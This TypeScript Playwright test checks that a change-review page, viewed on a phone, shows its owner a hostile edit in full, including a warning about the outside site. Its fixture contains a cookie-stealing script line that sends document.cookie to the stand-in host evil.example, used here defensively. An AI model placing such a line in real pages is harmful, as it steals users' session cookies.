/** A hostile change as its owner meets it on a phone, without script: nothing hidden, nothing cut off, nobody told. */
import type { Browser } from "playwright-core"
import { afterAll, beforeAll, expect, it } from "vitest"
import { linkPage } from "../../api/answers/linkPage.ts"
import { diffVersions } from "../../engine/content/diff/diffVersions.ts"
import { reviewChanges } from "../../engine/content/review/reviewChanges.ts"
import type { Payload } from "../../engine/model/Page.ts"
import { launchChromium, violationsOf } from "../builders/chromium.ts"

const origin = "https://preview.test"
const pixel = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64"
)

let browser: Browser
beforeAll(async () => {
  browser = await launchChromium()
})
afterAll(() => browser.close())

const page = (picture: string, href: string): Payload => ({
  html: `<img src="/media/${picture}" alt="The workshop"><p><a href="${href}">Book a visit</a></p>`,
  css: `a { color: ${href === "/book" ? "#235a4a" : "#d00000"} }`,
  js: href === "/book" ? "" : `new Image().src = "https://evil.example/?${"x".repeat(300)}" + document.cookie`
})

it.each(["none", "active"] as const)(
  "C1, C2: pictures, links, colours and code are there at 360 pixels, with forced colours %s",
  async (forcedColors) => {
    const [was, now] = [page("med_aaaa1", "/book"), page("med_bbbb2", `https://evil.example/${"y".repeat(300)}`)]
    const authored = (payload: Payload) => ({
      payload,
      title: "",
      meta: {},
      createdBy: "cred_a",
      lineAuthors: { "": ["cred_a"] }
    })
    const { body, headers } = linkPage({
      title: "Publish this change?",
      text: [],
      review: {
        changes: reviewChanges({ payload: was }, { payload: now }),
        sources: diffVersions(authored(was) as never, authored(now) as never).texts,
        ownHosts: [],
        pictures: { address: (id) => `${origin}/media/${id}?w=320`, account: null },
        origins: [origin]
      },
      action: { label: "Publish it" }
    })
    const shown = await browser.newPage({ viewport: { width: 360, height: 780 }, forcedColors, bypassCSP: false })
    const complaints: Array<string> = []
    const asked: Array<readonly [string, string | undefined]> = []
    shown.on("console", (message) => void (message.type() === "error" && complaints.push(message.text())))
    await shown.route("**/*", (route) => {
      const request = route.request()
      if (!request.url().startsWith(origin))
        return route.fulfill({ body, headers: { ...headers, "content-type": "text/html; charset=utf-8" } })
      asked.push([request.url(), request.headers()["referer"]])
      return route.fulfill({ body: pixel, contentType: "image/png" })
    })
    await shown.goto("https://desk.test/links/secret-token")
    // What may harm is read before anything is scrolled.
    const told = shown.locator(".told")
    expect(await told.innerText()).toContain("another website: evil.example")
    const { y, height } = (await told.boundingBox())!
    expect(y + height).toBeLessThan(780)
    await shown.locator("img").last().scrollIntoViewIfNeeded()
    await expect.poll(() => asked.length).toBe(2)

    const text = await shown.locator("main").innerText()
    for (const said of ["Another website: evil.example", "/book", "#235a4a", "#d00000", "document.cookie"])
      expect(text).toContain(said)
    expect(text).not.toContain("No words")
    expect(await shown.locator(".swatch").count()).toBe(2)
    expect(asked.map(([, referrer]) => referrer)).toEqual([undefined, undefined])
    expect(await shown.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360)
    expect(await violationsOf(shown)).toEqual([])
    expect(complaints).toEqual([])
  }
)
